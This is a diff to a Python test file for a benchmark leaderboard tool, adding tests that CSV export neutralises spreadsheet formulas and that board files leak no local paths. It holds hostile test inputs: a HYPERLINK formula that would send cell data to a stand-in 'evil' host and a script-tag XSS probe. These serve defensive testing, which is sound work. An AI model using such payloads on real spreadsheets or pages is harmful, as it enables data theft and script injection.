@@ -20,7 +20,7 @@ from hypothesis import strategies as st
 from synthetic_records import TOTAL, board_of, record, run_of, score, sections_of, summary_of
 
 from benchmark.board.leaderboard import leaderboard
-from benchmark.board.markup import escape_html, escape_latex, escape_markdown
+from benchmark.board.markup import escape_html, escape_latex
 from benchmark.board.plot import nice_ticks, plot
 from benchmark.board.records import add_record, key_of, read_record, safe_name
 from benchmark.board.reported import reported
@@ -28,6 +28,7 @@ from benchmark.board.tables import seconds, tables_of
 from benchmark.statistics import median_interval
 from olrd.errors import IntegrityError, OutputError, SourceError
 from olrd.storage.files import to_json
+from olrd.trust import escape_markdown
 
 HOSTILE = 'a<b>|c&d_e%"$#{}\\~^`*[x](y)</td><script>alert(1)</script>'
 
@@ -422,3 +423,32 @@ def test_a_record_is_the_summary_as_it_was(tmp_path: Path) -> None:
     assert 0.1 <= low < high <= 1.0
     summary["times"].pop("interval")
     assert to_json(stored) == to_json(summary)
+
+
+def test_no_text_of_a_record_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
+    board = board_of(tmp_path, record("a", method__name=formula, method__revision="+1+1", method__options={"@o": "1"}))
+    leaderboard(board)
+    (row,) = csv.DictReader(io.StringIO((board / "toy.csv").read_text()))
+    assert (row["method"], row["revision"], row["settings"]) == (f"'{formula}", "'+1+1", "'@o=1")
+    assert row["psnr/mask/raw value"] == "20.0"
+
+
+@pytest.mark.parametrize(
+    "path", ["/home/a/My Docs/nda/small", "file:///home/nda/small", "C:\\Users\\nda\\small", "text:/home/nda/small"]
+)
+def test_a_board_names_no_folder_of_this_machine(path: str, tmp_path: Path) -> None:
+    board = board_of(
+        tmp_path,
+        record(
+            "a",
+            method__name=path,
+            method__options={"model": path},
+            dataset__warnings=[f"read from {path}"],
+            failures={f"SourceError: {path} is missing": 1},
+        ),
+    )
+    leaderboard(board)
+    for file in board.rglob("*.*"):
+        assert "acme" not in str(file.relative_to(board)), file
+        assert "acme" not in file.read_text(), file
